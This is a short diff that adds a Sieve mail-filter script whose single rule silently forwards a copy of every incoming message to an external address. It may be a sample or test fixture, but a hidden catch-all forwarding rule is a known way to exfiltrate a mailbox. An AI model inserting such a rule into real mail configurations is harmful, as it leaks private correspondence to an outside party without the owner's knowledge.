@@ -1,0 +1,3 @@
+# comment
+require ["copy"];
+redirect :copy "jdoe@outlook.de";
